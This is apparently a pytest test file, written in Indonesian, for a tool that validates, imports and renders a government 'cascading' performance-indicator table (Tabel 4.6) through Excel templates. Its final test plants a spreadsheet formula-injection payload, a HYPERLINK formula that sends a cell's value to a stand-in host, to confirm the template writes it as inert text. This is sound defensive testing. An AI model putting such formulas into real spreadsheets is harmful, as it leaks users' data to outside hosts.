"""Cascading (Tabel 4.6): data yang dikirim, aturan, buku kerja perencana, impor dan tabel dokumen.

Harapan diambil dari Tabel 4.6 dokumen sumber (baris sub kegiatan Sekretariat,
tujuan dan sasaran) dan dari aturan issue 13.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from analisis.chapters import cascading as bab
from analisis.core import cascading as casc
from analisis.core import data
from analisis.input import cascading as masukan
from analisis.input import impor

# ----------------------------------------------------------------------------
# data yang dikirim


@pytest.mark.parametrize("id_, kolom, nilai", [
    ("SK-4", "nama", "Penyediaan Bahan Logistik Kantor"),
    ("SK-4", "satuan", "Paket"),
    ("SK-4", "rumusan", "Y Paket Logistik Kantor yang Disediakan tahun n"),
    ("SK-4", "sasaran", "Tersedianya Bahan Logistik Kantor sesuai kebutuhan"),
    ("SK-6-1", "nama", "Pengadaan Kendaraan Perorangan"),
    ("S-1", "rumusan", "ΣPPKS yang mendapat penangan / ΣPPKS di Kabupaten Seruyan tahun X 100%"),
    ("K-1", "rumusan", "ΣSD"),
])
def test_teks_dikirim(id_, kolom, nilai):
    df = data.muat("cascading").set_index("id")
    assert df.at[id_, kolom] == nilai


@pytest.mark.parametrize("id_, target", [
    ("SK-4", [2, 4, 4, 4, 4, 4]),
    ("SK-6", [0, 0, 0, 5, 5, 5]),
    ("SK-9", [5, 1, 1, 1, 1, 1]),
    ("T-1", [95, 90, None, 85, 75, None]),
])
def test_target_dikirim(id_, target):
    r = data.muat("cascading").set_index("id").loc[id_]
    nilai = [None if pd.isna(r[casc.kolom_target(t)]) else float(r[casc.kolom_target(t)]) for t in casc.TAHUN + casc.TAHUN_TAMBAHAN]
    assert nilai == target


def test_data_dikirim_hanya_kekurangan_kelengkapan():
    masalah = casc.periksa(data.muat("cascading"), **casc.rujukan_data())
    assert masalah and {m.jenis for m in masalah} == {"kelengkapan"}


# ----------------------------------------------------------------------------
# aturan pada data buatan


def _kecil() -> pd.DataFrame:
    """Cascading kecil yang lengkap: dua tujuan/sasaran (IKU-01, IKU-02), satu program, kegiatan, sub kegiatan."""
    baris = [
        ("T1", "tujuan", None, "Tujuan A", "%", [90, 85, 80, 75, 70], "Dinas Sosial", "IKU-01"),
        ("S1", "sasaran", "T1", "Sasaran A", "%", [100] * 5, "Dinas Sosial", "IKU-01"),
        ("T2", "tujuan", None, "Tujuan B", "nilai", [58, 60, 62, 64, 66], "Dinas Sosial", "IKU-02"),
        ("S2", "sasaran", "T2", "Sasaran B", "nilai", [58, 60, 62, 64, 66.5], "Dinas Sosial", "IKU-02"),
        ("P1", "program", "S1", "Program Satu", "%", [100] * 5, "Bidang Rehabilitasi Sosial", None),
        ("P2", "program", "S2", "Program Dua", "%", [100] * 5, "Sekretariat", None),
        ("K1", "kegiatan", "P1", "Kegiatan Satu", "orang", [10, 12, 14, 16, 18], "Bidang Rehabilitasi Sosial", None),
        ("SK1", "sub_kegiatan", "K1", "Sub Kegiatan Satu", "Paket", [1, 2, 3, 4, 5], "Bidang Rehabilitasi Sosial", None),
    ]
    rek = []
    for n, (id_, t, ind, nama, sat, tg, pj, iku) in enumerate(baris, start=2):
        r = {"_baris": n, "id": id_, "tingkat": t, "induk": ind, "no": None, "nama": nama, "sasaran": None, "kinerja": None,
             "indikator": f"Indikator {nama}", "rumusan": f"Σ {nama}", "satuan": sat,
             **{casc.kolom_target(th): float(v) for th, v in zip(casc.TAHUN, tg)}, casc.kolom_target(2030): None,
             "penanggung_jawab": pj, "pagu": None, "kode_iku": iku, "kode_ikk": None, "kode_pohon": None}
        rek.append(r)
    return pd.DataFrame(rek)


def _aturan(df, **kw):
    return [(m.jenis, m.pelanggaran.baris, m.pelanggaran.kolom, m.pelanggaran.aturan)
            for m in casc.periksa(df, **{**casc.rujukan_data(), **kw})]


def test_cascading_kecil_sah():
    assert _aturan(_kecil()) == []


def test_induk_dua_tingkat_di_atas_ditolak():
    df = _kecil()
    df.loc[df["id"] == "K1", "induk"] = "S1"
    (m,) = _aturan(df)
    assert m[0] == "hierarki" and m[1] == 8 and m[2] == "induk" and "induk harus program" in m[3]


def test_induk_tidak_ada_dan_induk_kosong():
    df = _kecil()
    df.loc[df["id"] == "SK1", "induk"] = "K9"
    df.loc[df["id"] == "P2", "induk"] = None
    hasil = _aturan(df)
    assert ("hierarki", 9, "induk", "induk tidak ditemukan di kolom id") in hasil
    assert any(j == "kelengkapan" and b == 7 and k == "induk" for j, b, k, _ in hasil)
    # sasaran S2 tidak lagi dilayani program
    assert any("setiap sasaran dilayani" in a and b == 5 for _, b, _, a in hasil)


@pytest.mark.parametrize("kolom, nilai, pesan", [
    ("target_2027", 101.0, "target persen harus antara 0 dan 100"),
    ("target_2027", -1.0, "target tidak boleh negatif"),
])
def test_target_persen(kolom, nilai, pesan):
    df = _kecil()
    df.loc[df["id"] == "P1", kolom] = nilai
    assert _aturan(df) == [("satuan", 6, kolom, pesan)]


def test_target_cacah_harus_bulat_tetapi_nilai_boleh_desimal():
    df = _kecil()
    df.loc[df["id"] == "SK1", "target_2026"] = 2.5
    assert _aturan(df) == [("satuan", 9, "target_2026", "target satuan 'Paket' adalah cacah: harus bilangan bulat")]


def test_kelengkapan_indikator_target_bidang():
    df = _kecil()
    df.loc[df["id"] == "SK1", ["indikator", "target_2029", "penanggung_jawab"]] = None
    kolom = {k for j, b, k, _ in _aturan(df) if j == "kelengkapan" and b == 9}
    assert kolom == {"indikator", "target_2029", "penanggung_jawab"}


def test_setiap_iku_dilayani_sasaran():
    df = _kecil()
    df.loc[df["id"] == "S2", "kode_iku"] = None
    assert ("kelengkapan", None, "kode_iku", "setiap IKU dilayani sebuah sasaran (tidak ada sasaran dengan kode ini)") in _aturan(df)


def test_rujukan_bidang_dan_kode():
    df = _kecil()
    df.loc[df["id"] == "SK1", "penanggung_jawab"] = "Bidang Khayalan"
    df.loc[df["id"] == "P1", "kode_ikk"] = "IKK-99"
    jenis = {(j, k) for j, _, k, _ in _aturan(df)}
    assert jenis == {("rujukan", "penanggung_jawab"), ("rujukan", "kode_ikk")}


# ----------------------------------------------------------------------------
# buku kerja: templat, impor, tabel dokumen


def test_templat_terisi_dan_bervalidasi(folder, tmp_path):
    t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
    wb = openpyxl.load_workbook(t)
    assert wb.sheetnames[:2] == ["Petunjuk", "Cascading"]
    ws = wb["Cascading"]
    nama = [ws.cell(r, 5).value for r in range(masukan.BARIS_DATA, ws.max_row + 1)]
    assert "Penyediaan Bahan Logistik Kantor" in nama and "Pengadaan Kendaraan Perorangan" in nama
    rumus = {str(dv.sqref).split(":")[0][0]: dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
    assert rumus["C"].startswith("$A$")  # induk dipilih dari kolom ID simpul
    assert masukan.adalah_templat(t)


def test_buku_kerja_dikirim_ditolak_karena_belum_lengkap_dan_data_tetap(folder, tmp_path, bantu):
    t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
    bantu.tolak(t, folder, "lembar 'Cascading', baris", "kolom 'C (Induk (ID))'", "wajib diisi")


def _isi_kecil(t: Path) -> pd.DataFrame:
    df = _kecil()
    wb = openpyxl.load_workbook(t)
    ws = wb["Cascading"]
    ws.delete_rows(masukan.BARIS_DATA, ws.max_row)
    kolom = [k for k, _, _ in masukan.KOLOM]
    for n, (_, r) in enumerate(df.iterrows()):
        for i, k in enumerate(kolom, start=1):
            v = r[k]
            ws.cell(masukan.BARIS_DATA + n, i, None if v is None or (not isinstance(v, str) and pd.isna(v)) else v)
    wb.save(t)
    return df


def test_impor_bolak_balik_dan_tabel_4_6(folder, tmp_path, bantu):
    t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
    df = _isi_kecil(t)
    sebelum = bantu.potret(folder)
    h = impor.impor(t, folder=folder, coba=True)
    assert h.ada_perubahan and bantu.potret(folder) == sebelum  # --coba tidak menulis
    h = impor.impor(t, folder=folder)
    assert h.ditulis == [folder / "cascading.csv"]
    sesudah = bantu.potret(folder)
    h2 = impor.impor(t, folder=folder)  # impor kedua tidak mengubah apa pun
    assert not h2.ada_perubahan and bantu.potret(folder) == sesudah
    baru = data.muat("cascading", folder)
    assert list(baru["id"]) == list(df["id"])
    html = bab.tabel_cascading(baru, "Cascading").data
    for _, r in df.iterrows():
        assert r["nama"] in html and r["indikator"] in html
        for th in casc.TAHUN:
            assert bab._angka_target(r[casc.kolom_target(th)], r["satuan"]) in html
    assert "66,5" in html and "90 %" in html


def test_buku_kerja_salah_ditolak_dengan_lembar_baris_kolom(folder, tmp_path, bantu):
    t = masukan.buat_templat(tmp_path / "c.xlsx", folder=folder)
    _isi_kecil(t)
    wb = openpyxl.load_workbook(t)
    ws = wb["Cascading"]
    ws.cell(masukan.BARIS_DATA + 4, 12, 150)  # P1 target 2026 = 150 %
    wb.save(t)
    bantu.tolak(t, folder, "lembar 'Cascading', baris 8, kolom 'L (Target 2026)', nilai '150.0': "
                           "target persen harus antara 0 dan 100")


# ----------------------------------------------------------------------------
# dari sisi perencana: iku templat --cascading → isi (skrip / LibreOffice) → iku impor → buku 05


AKAR = Path(__file__).resolve().parents[1]


def _html_tabel_4_6(keluar: Path) -> str:
    """HTML Tabel 4.6 (blok ``tabel-cascading``) dari buku 05 yang sudah dieksekusi."""
    import nbformat

    nb = nbformat.read(keluar, as_version=4)
    (html,) = [o["data"]["text/html"] for c in nb.cells for o in c.get("outputs", [])
               if 'class="tabel-cascading"' in o.get("data", {}).get("text/html", "")]
    return html


@pytest.mark.lambat
@pytest.mark.parametrize("lewat_libreoffice", [False, True], ids=["openpyxl", "libreoffice"])
def test_perencana_mengisi_cascading_sampai_tabel_4_6(folder, tmp_path, bantu, capsys, lewat_libreoffice):
    """Issue 13: templat lewat CLI, cascading kecil diisi, (disimpan Calc), ``iku impor``, buku 05 mencetak semuanya."""
    import papermill as pm

    from analisis import cli

    if lewat_libreoffice and bantu.SOFFICE is None:
        pytest.skip("LibreOffice (soffice) tidak terpasang")
    t = tmp_path / "cascading.xlsx"
    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
    assert f"Ditulis: {t}" in capsys.readouterr().out
    df = _isi_kecil(t)
    if lewat_libreoffice:
        t = bantu.lewat_libreoffice(t, tmp_path)
    assert cli.main(["impor", str(t), "--coba"]) == 0
    assert "8 ditambah" in capsys.readouterr().out
    assert cli.main(["impor", str(t)]) == 0
    assert "Ditulis: data/cascading.csv" in capsys.readouterr().out
    assert list(data.muat("cascading", folder)["id"]) == list(df["id"])
    sesudah = bantu.potret(folder)
    assert cli.main(["impor", str(t)]) == 0 and "Tidak ada perubahan" in capsys.readouterr().out
    assert bantu.potret(folder) == sesudah

    keluar = tmp_path / "05.ipynb"  # kernel mewarisi IKU_DATA salinan (fixture folder)
    pm.execute_notebook(str(AKAR / "notebooks" / "05_cascading.ipynb"), str(keluar), parameters={"tahun": 2025},
                        cwd=str(AKAR / "notebooks"), progress_bar=False)
    html = _html_tabel_4_6(keluar)
    for _, r in df.iterrows():
        for k in ("nama", "indikator", "rumusan"):
            assert r[k] in html, (r["id"], k)
        for th in casc.TAHUN:
            assert bab._angka_target(r[casc.kolom_target(th)], r["satuan"]) in html, (r["id"], th)
    assert "66,5" in html and "90 %" in html and "Penyediaan Bahan Logistik Kantor" not in html  # diganti utuh
    assert html.count("<thead>") == 5 and 'rowspan="' not in html  # satu bagian per tingkat; satu anak per induk: tanpa rentang


def test_cli_buku_kerja_cascading_ditolak_data_tetap(folder, tmp_path, bantu, capsys):
    from analisis import cli

    t = tmp_path / "c.xlsx"
    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
    _isi_kecil(t)
    wb = openpyxl.load_workbook(t)
    wb["Cascading"].cell(masukan.BARIS_DATA + 7, 3, "K9")  # SK1 berinduk simpul yang tidak ada
    wb.save(t)
    capsys.readouterr()
    sebelum = bantu.potret(folder)
    assert cli.main(["impor", str(t)]) == 2
    err = capsys.readouterr().err
    assert "lembar 'Cascading', baris 11, kolom 'C (Induk (ID))', nilai 'induk=K9': induk tidak ditemukan di kolom id" in err
    assert "Traceback" not in err and bantu.potret(folder) == sebelum


def test_templat_cascading_tidak_menimpa_dan_hanya_xlsx(folder, tmp_path, capsys):
    from analisis import cli

    t = tmp_path / "cascading.xlsx"
    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 0
    t.write_bytes(b"isian perencana yang belum diimpor")
    capsys.readouterr()
    assert cli.main(["templat", "--cascading", "--keluaran", str(t)]) == 2
    assert "sudah ada (mungkin isian yang belum diimpor); tidak ditimpa" in capsys.readouterr().err
    assert t.read_bytes() == b"isian perencana yang belum diimpor"
    assert cli.main(["templat", "--cascading", "--keluaran", str(t), "--timpa"]) == 0
    assert masukan.adalah_templat(t)
    csv = folder / "cascading.csv"
    sebelum = csv.read_bytes()
    assert cli.main(["templat", "--cascading", "--keluaran", str(csv), "--timpa"]) == 2
    assert "hanya ditulis ke berkas berakhiran .xlsx" in capsys.readouterr().err
    assert csv.read_bytes() == sebelum
    assert cli.main(["templat", "--cascading", "--keluaran", str(tmp_path)]) == 2
    assert not list(tmp_path.glob(".*.tmp"))


def test_templat_cascading_teks_berawalan_rumus_ditulis_sebagai_teks(folder, tmp_path):
    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"Data")'
    df = data.muat("cascading", folder)
    teks = (folder / "cascading.csv").read_text(encoding="utf-8")
    (folder / "cascading.csv").write_text(teks.replace("ΣSD", '"' + rumus.replace('"', '""') + '"', 1), encoding="utf-8")
    assert rumus in set(data.muat("cascading", folder)["rumusan"]) and len(df)
    ws = openpyxl.load_workbook(masukan.buat_templat(tmp_path / "c.xlsx", folder=folder))["Cascading"]
    sel = [c for baris in ws.iter_rows() for c in baris if c.value == rumus]
    assert sel and all(c.data_type == "s" and c.quotePrefix for c in sel)
    assert not [c for baris in ws.iter_rows() for c in baris if c.data_type == "f"]
